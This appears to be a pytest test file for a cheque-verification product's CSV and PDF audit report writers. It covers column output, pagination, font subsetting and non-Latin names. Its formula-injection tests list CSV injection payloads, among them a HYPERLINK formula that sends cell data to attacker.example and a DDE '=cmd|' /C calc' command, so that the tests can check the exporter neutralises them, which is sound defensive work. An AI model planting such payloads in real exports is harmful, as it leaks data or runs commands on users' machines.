"""The audit report writers: CSV columns and a PDF that a strict reader can take apart."""

from __future__ import annotations

import csv
import shutil
import struct
import subprocess

import numpy as np
import pytest

from chequeverify.reports import CSV_COLUMNS, PdfDocument, RasterImage, ReportRow, csv_cell, write_csv, write_pdf
from chequeverify.reports.pdf import default_fonts
from chequeverify.reports.truetype import FontError, TrueTypeFont
from tests.service_fixtures import read_pdf, scribble

#: names in the scripts the product is used with (Hindi, Bengali) and others outside Windows-1252
DEVANAGARI, BENGALI, POLISH, GREEK, CYRILLIC = "राजेश कुमार", "সুব্রত দাস", "Łukasz Żółć", "Δήμητρα", "Дмитрий Иванов"


def raster(a: np.ndarray) -> RasterImage:
    return RasterImage(a.shape[1], a.shape[0], "L", a.tobytes())


def row(i: int, **kw) -> ReportRow:
    base = dict(
        cheque_id=i, verified_at=f"2025-01-0{i}T10:00:00.000000Z", account="100-200", holder="Ada (Lovelace) \\ Ltd",
        file_name=f"cheque{i}.png", file_sha256="ab" * 32, amount="1250.50",
        signatories=(("Ada", 0.93, "ACCEPT"), ("Bob", None, "REJECT")), model_decision="ACCEPT", score=0.93,
        clerk_decision="ACCEPT", decision_status="final", reason="matches; customer known — café", decided_by="carl",
        decided_at="2025-01-01T10:01:00Z", approved_by="", verified_by="carl", model_id="m-1",
        final_decision="ACCEPT",
        reasons=("a note",), query_image=raster(scribble(i)), reference_images=(raster(scribble(10)), raster(scribble(11))),
    )  # fmt: skip
    base.update(kw)
    return ReportRow(**base)


def test_csv_has_every_column_and_row(tmp_path):
    path = tmp_path / "r.csv"
    assert write_csv(path, [row(1), row(2, clerk_decision="", decision_status="undecided", reason="")]) == 2
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[0]["signatories"] == "Ada 0.9300 ACCEPT; Bob REJECT"
    assert rows[0]["reason"] == "matches; customer known — café"
    assert rows[1]["decision_status"] == "undecided" and rows[1]["clerk_decision"] == ""
    assert rows[0]["model_score"] == "0.9300"


def test_pdf_is_well_formed_and_holds_every_cheque(tmp_path):
    path = tmp_path / "r.pdf"
    rows = [row(i) for i in range(1, 8)]
    write_pdf(path, rows, title="Audit report", subtitle="all cheques")
    pdf = read_pdf(path)
    text = pdf.text
    for i in range(1, 8):
        assert f"Cheque {i}" in text
    assert "Ada (Lovelace) \\ Ltd" in text  # escaped parentheses and backslash survive
    assert "café" in text  # WinAnsi
    # query images (7 distinct) + 2 shared references, deduplicated
    assert len(pdf.images) == 9
    assert all(mode == "L" for _, _, mode, _ in pdf.images)


def test_pdf_paginates_long_reports(tmp_path):
    path = tmp_path / "long.pdf"
    write_pdf(path, [row(i % 9 + 1, cheque_id=i) for i in range(120)], title="t")
    pdf = read_pdf(path)
    assert len(pdf.pages) > 5
    assert all(f"Cheque {i} " in pdf.text for i in range(120))


def test_empty_report_says_so(tmp_path):
    path = tmp_path / "empty.pdf"
    write_pdf(path, [], title="t")
    assert "No cheque matches" in read_pdf(path).text


def test_rgb_images_and_bad_rasters():
    doc = PdfDocument()
    name = doc.add_image(RasterImage(2, 1, "RGB", bytes(6)))
    assert doc.add_image(RasterImage(2, 1, "RGB", bytes(6))) == name  # deduplicated
    with pytest.raises(ValueError):
        RasterImage(2, 2, "L", bytes(3))
    with pytest.raises(ValueError):
        RasterImage(2, 2, "CMYK", bytes(16))


@pytest.mark.parametrize("fonts", [None, ()], ids=["embedded", "helvetica"])
def test_wrap_and_fit(fonts):
    doc = PdfDocument(fonts=fonts)
    lines = doc.wrap("word " * 100, 10, 200)
    assert len(lines) > 5 and all(doc.text_width(line, 10) <= 200 for line in lines)
    assert " ".join(lines) == ("word " * 100).strip()
    pieces = doc.wrap("x" * 200, 10, 100)
    assert "".join(pieces) == "x" * 200 and all(doc.text_width(p, 10) <= 100 for p in pieces)
    assert doc.text_width(pieces[0] + "x", 10) > 100  # as long as fits
    cut = doc.fit("abcdefghijklmnop", 10, 40)
    assert cut.endswith("...") and doc.text_width(cut, 10) <= 40
    assert doc.fit("abc", 10, 40) == "abc"
    assert doc.wrap("", 10, 100) == [""]


# --- CSV: formula injection ---------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A2,"details")', "@SUM(1+1)cheque.png", "+1+1", "-2+3",
            "=cmd|' /C calc'!A0", "\tx", "\rx", "\uff1d1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_neutralises_formulas(text):
    assert csv_cell(text, "reason") == "'" + text
    assert csv_cell(text, "amount") == "'" + text  # a numeric column that does not hold a number is text
    assert csv_cell("matches — " + text, "reason") == "matches — " + text  # only the first character counts


@pytest.mark.parametrize("number", ["-1.2300", "0.9300", "-3.87", "+2", "1250.50", "-5", "1e-3", "42"])
def test_csv_cell_leaves_numbers_in_numeric_columns(number):
    assert csv_cell(number, "model_score") == number
    assert csv_cell(number, "amount") == number
    assert csv_cell(7, "cheque_id") == "7"


def test_csv_export_never_starts_a_text_cell_with_a_formula(tmp_path):
    path = tmp_path / "r.csv"
    evil = row(1, holder="=cmd|' /C calc'!A0", file_name="@SUM(1+1)cheque.png", reason=FORMULAS[0], account="-100",
               decided_by="+carl", signatories=(("=Ada", -1.23, "REJECT"),), reasons=("-note",), score=-1.23,
               amount="-12.50", review_note="=1+1", model_id="@m")  # fmt: skip
    write_csv(path, [evil])
    with open(path, newline="", encoding="utf-8") as fh:
        got = next(csv.DictReader(fh))
    assert got["model_score"] == "-1.2300" and got["amount"] == "-12.50" and got["cheque_id"] == "1"
    assert got["reason"] == "'" + FORMULAS[0]
    assert got["file_name"] == "'@SUM(1+1)cheque.png"
    assert got["holder"] == "'=cmd|' /C calc'!A0"
    assert got["signatories"] == "'=Ada -1.2300 REJECT"
    assert got["account"] == "'-100" and got["decided_by"] == "'+carl" and got["notes"] == "'-note"
    assert got["review_note"] == "'=1+1" and got["model_id"] == "'@m"
    for column, value in got.items():
        if column not in ("model_score", "amount"):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column


# --- decisions and their review --------------------------------------------------------


def test_refused_override_is_reported_as_refused(tmp_path):
    refused = row(1, model_decision="REJECT", score=-1.5, clerk_decision="ACCEPT", decision_status="refused",
                  decided_by="carl", approved_by="", refused_by="sam", reviewed_at="2025-01-01T11:00:00Z",
                  review_note="forgery", final_decision="REJECT")  # fmt: skip
    approved = row(2, model_decision="REJECT", score=-1.5, clerk_decision="ACCEPT", decision_status="final",
                   decided_by="carl", approved_by="sam", reviewed_at="2025-01-01T11:00:00Z", review_note="",
                   final_decision="ACCEPT")  # fmt: skip
    waiting = row(3, model_decision="REJECT", clerk_decision="ACCEPT", decision_status="awaiting_approval",
                  final_decision="")
    write_csv(tmp_path / "r.csv", [refused, approved, waiting])
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as fh:
        got = list(csv.DictReader(fh))
    assert {k: got[0][k] for k in ("clerk_decision", "decision_status", "approved_by", "refused_by", "final_decision",
                                   "review_note")} == {  # fmt: skip
        "clerk_decision": "ACCEPT", "decision_status": "refused", "approved_by": "", "refused_by": "sam",
        "final_decision": "REJECT", "review_note": "forgery"}  # fmt: skip
    assert (got[1]["approved_by"], got[1]["refused_by"], got[1]["final_decision"]) == ("sam", "", "ACCEPT")
    assert (got[2]["approved_by"], got[2]["refused_by"], got[2]["final_decision"]) == ("", "", "")

    write_pdf(tmp_path / "r.pdf", [refused, approved, waiting], title="t")
    text = read_pdf(tmp_path / "r.pdf").text
    assert "approved by sam" not in text.split("Cheque 2 ")[0]  # the refused cheque's block
    assert "override refused by sam at 2025-01-01 11:00:00 (forgery); decision in force REJECT" in text
    assert "override approved by sam at 2025-01-01 11:00:00; decision in force ACCEPT" in text
    assert "awaiting a second supervisor's approval, no decision in force yet" in text
    assert "sam (refused)" in text and "sam (approved)" in text  # the summary table


# --- PDF: any Unicode text -------------------------------------------------------------


def _glyph_outline(font: bytes, gid: int) -> bytes:
    """The 'glyf' bytes of glyph ``gid`` in a TrueType file (as its 'loca' delimits them)."""
    tables = {}
    for i in range(struct.unpack_from(">H", font, 4)[0]):
        tag, _, offset, length = struct.unpack_from(">4sIII", font, 12 + 16 * i)
        tables[tag] = font[offset : offset + length]
    long_loca = struct.unpack_from(">h", tables[b"head"], 50)[0] == 1
    start, end = struct.unpack_from(">II" if long_loca else ">HH", tables[b"loca"], gid * (4 if long_loca else 2))
    scale = 1 if long_loca else 2
    return tables[b"glyf"][start * scale : end * scale]


def test_shipped_fonts_cover_the_product_scripts():
    fonts = default_fonts()
    assert [f.name for f in fonts] == ["NotoSans-Regular", "NotoSansDevanagari-Regular", "NotoSansBengali-Regular"]
    for text in (DEVANAGARI, BENGALI, POLISH, GREEK, CYRILLIC, "café — ·"):
        assert all(c == " " or any(f.glyph(c) for f in fonts) for c in text), text


def test_a_font_subset_is_a_valid_truetype_file(tmp_path):
    font = default_fonts()[1]  # Devanagari
    gids = {font.glyph(c) for c in "राजेश"}
    subset = font.subset(gids)
    assert len(subset) < len(font.data) / 4
    assert sum(struct.unpack(f">{len(subset) // 4}I", subset)) & 0xFFFFFFFF == 0xB1B0AFBA  # head.checkSumAdjustment
    tags = [subset[12 + 16 * i : 16 + 16 * i] for i in range(struct.unpack_from(">H", subset, 4)[0])]
    assert tags == sorted(tags) and b"glyf" in tags and b"cmap" not in tags
    for gid in gids:
        assert _glyph_outline(subset, gid).startswith(_glyph_outline(font.data, gid))
    assert _glyph_outline(subset, max(gids) + 1) == b""  # a glyph not asked for is emptied, its id kept
    (tmp_path / "bad.ttf").write_bytes(b"OTTO" + bytes(100))
    with pytest.raises(FontError, match="CFF"):
        TrueTypeFont.load(tmp_path / "bad.ttf")
    (tmp_path / "short.ttf").write_bytes(b"\x00\x01\x00\x00\x00\x09")
    with pytest.raises(FontError):
        TrueTypeFont.load(tmp_path / "short.ttf")


def test_non_latin_names_round_trip_into_the_pdf(tmp_path):
    path = tmp_path / "r.pdf"
    names = (DEVANAGARI, BENGALI, POLISH, GREEK, CYRILLIC)
    rows = [row(i + 1, holder=name, decided_by=name, signatories=((name, 0.9, "ACCEPT"),), reason=f"checked {name}")
            for i, name in enumerate(names)]  # fmt: skip
    write_pdf(path, rows, title="Audit report — ऑडिट", subtitle="সব চেক")
    pdf = read_pdf(path)
    for name in names:
        assert f"({name})" in pdf.text and f"Signatories: {name} 0.9000 ACCEPT" in pdf.text
    assert "?" not in pdf.text.replace("?x=", "")
    assert "Audit report — ऑडिट" in pdf.text and "সব চেক" in pdf.text
    # each character is drawn with a real glyph of the font that has it (not .notdef), and the
    # embedded subset holds that glyph's outline
    originals = {f.name: f for f in default_fonts()}
    seen = set()
    for embedded in pdf.fonts.values():
        original = originals[embedded.base_font.split("+")[1]]
        for cid, char in embedded.to_unicode.items():
            gid = embedded.cid_to_gid[cid]
            assert gid == original.glyph(char) and gid != 0, (char, embedded.base_font)
            assert embedded.widths[cid] == round(original.advance(gid))
            if not char.isspace():  # the subset keeps the glyph's outline (padded to 4 bytes)
                outline, kept = _glyph_outline(original.data, gid), _glyph_outline(embedded.program, gid)
                assert outline and kept.startswith(outline) and len(kept) - len(outline) < 4, char
            seen.add(char)
    assert set("".join(names).replace(" ", "")) <= seen
    assert {f.split("+")[1] for f in pdf.fonts} == set(originals)


def test_a_character_no_font_has_prints_as_a_box_but_reads_back(tmp_path):
    path = tmp_path / "r.pdf"
    write_pdf(path, [row(1, holder="山田 太郎 \udcff")], title="t")  # CJK: not shipped; a lone surrogate
    pdf = read_pdf(path)
    assert "(山田 太郎 \ufffd)" in pdf.text
    font = next(f for f in pdf.fonts.values() if f.base_font.endswith("+NotoSans-Regular"))
    assert all(font.cid_to_gid[cid] == 0 for cid, c in font.to_unicode.items() if c in "山田太郎")


def test_helvetica_fallback_without_fonts(tmp_path):
    doc = PdfDocument(fonts=())
    doc.new_page().text(10, 10, "café Łódź", bold=True)
    doc.save(tmp_path / "r.pdf")
    pdf = read_pdf(tmp_path / "r.pdf")
    assert pdf.text == "café ?ód?" and pdf.fonts == {}


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler's pdftotext is not installed")
def test_pdftotext_reads_the_names(tmp_path):
    path = tmp_path / "r.pdf"
    write_pdf(path, [row(1, holder=f"{POLISH} {GREEK} {CYRILLIC}", decided_by=DEVANAGARI, verified_by=BENGALI)],
              title="t")  # fmt: skip
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True, check=True)
    assert not out.stderr.strip(), out.stderr
    text = " ".join(out.stdout.split())
    for name in (POLISH, GREEK, CYRILLIC, DEVANAGARI, BENGALI):
        assert name in text, name
